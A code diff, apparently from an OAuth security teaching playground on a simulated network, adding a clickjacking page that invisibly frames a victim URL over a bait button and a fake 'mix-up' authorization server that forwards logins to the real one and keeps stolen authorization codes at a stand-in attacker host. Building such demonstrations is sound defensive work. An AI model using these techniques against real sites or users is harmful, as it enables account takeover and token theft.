@@ -8,16 +8,18 @@ transcript and the sequence diagram show the attack as its own lifeline.
 from __future__ import annotations
 
 from dataclasses import dataclass, field
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 import httpx
-from flask import Flask, request
+from flask import Flask, jsonify, redirect, render_template_string, request
 
 from ..exchange import Party
 from ..network import Host, Network
 from .browser import Browser
 
 ATTACKER_URL = "https://attacker.playground.test"
+# The attacker's own authorization server, for the mix-up attack (RFC 9700 4.4).
+ATTACKER_AS_URL = "https://as.attacker.playground.test"
 
 _PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
 <title>Free prints! - totally legit</title></head><body>
@@ -25,6 +27,25 @@ _PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
 <p>Just sign in with your photo account below.</p>
 <img src="https://attacker.playground.test/pixel.gif" alt="">
 </body></html>"""
+
+# Clickjacking (RFC 6749 10.13): the page the victim sees is the prize button;
+# on top of it, fully transparent, is whatever page `url` is.
+_FRAME_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>Win 100 free prints! - totally legit</title>
+<style>
+#prize{position:relative;width:480px;height:360px}
+#bait{position:absolute;top:250px;left:24px;font-size:1.5rem}
+/* the framed page sits on top of the bait button, invisible */
+#victim-frame{position:absolute;top:0;left:0;width:480px;height:360px;
+border:0;opacity:0;z-index:2}
+</style></head><body>
+<h1>Win 100 free photo prints!</h1>
+<div id="prize">
+<form id="prize-form" method="post" action="/win">
+<button id="bait" type="submit" name="prize" value="prints">Win free prints</button>
+</form>
+<iframe id="victim-frame" title="prize" src="{{ url }}"></iframe>
+</div></body></html>"""
 
 
 @dataclass(frozen=True)
@@ -65,6 +86,12 @@ class AttackerSite:
     def _create_app(self) -> Flask:
         app = Flask("attacker_site")
 
+        @app.get("/frame")
+        def frame() -> str:
+            """`/frame?url=...`: the clickjacking page, framing `url` invisibly."""
+            self._keep()
+            return render_template_string(_FRAME_PAGE, url=request.args.get("url", ""))
+
         @app.route("/", defaults={"path": ""}, methods=["GET", "POST"])
         @app.route("/<path:path>", methods=["GET", "POST"])
         def anything(path: str) -> tuple[str, int] | str:
@@ -76,21 +103,72 @@ class AttackerSite:
         return app
 
 
+@dataclass
+class MixUpAuthorizationServer:
+    """Mallory's own authorization server at `as.attacker.playground.test`,
+    where PhotoPrint is registered too (RFC 9700 4.4, the mix-up attack).
+
+    `/authorize` does not authorize anything: it sends the browser on to the
+    honest authorization server with the very same parameters, so Alice signs
+    in and approves at the real server. `/token` keeps whatever code a
+    confused client sends it (as the site's loot) and answers an error.
+    """
+
+    site: AttackerSite
+    honest_issuer: str
+    app: Flask = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.app = self._create_app()
+
+    @property
+    def issuer(self) -> str:
+        return ATTACKER_AS_URL
+
+    def _create_app(self) -> Flask:
+        app = Flask("attacker_authorization_server")
+
+        @app.get("/authorize")
+        def authorize():
+            self.site._keep()
+            # Same client_id, redirect_uri, state, scope (and PKCE, if any):
+            # the real authorization server sees an ordinary request.
+            query = urlencode(list(request.args.items(multi=True)))
+            return redirect(f"{self.honest_issuer}/authorize?{query}", code=302)
+
+        @app.post("/token")
+        def token():
+            self.site._keep()  # the code, as a form field of the token request
+            return jsonify(
+                error="invalid_grant",
+                error_description="The code is invalid or has expired.",
+            ), 400
+
+        return app
+
+
 class Attacker:
     """Mallory: their site, their browser, and a client to use stolen things."""
 
     def __init__(self, network: Network, issuer: str, api_url: str) -> None:
         self.site = AttackerSite()
+        # Mallory's own authorization server (mix-up), routed by the world.
+        self.authorization_server = MixUpAuthorizationServer(self.site, issuer)
         self.network = network
         self.issuer = issuer
         self.api_url = api_url
-        self.browser = Browser(network)
+        self.browser = Browser(network, party=Party.ATTACKER)
         self.http = network.client(Party.ATTACKER, user_agent="EvilBot/6.6")
         self.stolen: dict[str, str] = {}
 
     @property
     def url(self) -> str:
         return ATTACKER_URL
+
+    @property
+    def as_url(self) -> str:
+        """The issuer of Mallory's own authorization server (mix-up)."""
+        return ATTACKER_AS_URL
 
     def loot(self, name: str) -> list[str]:
         return self.site.values(name)
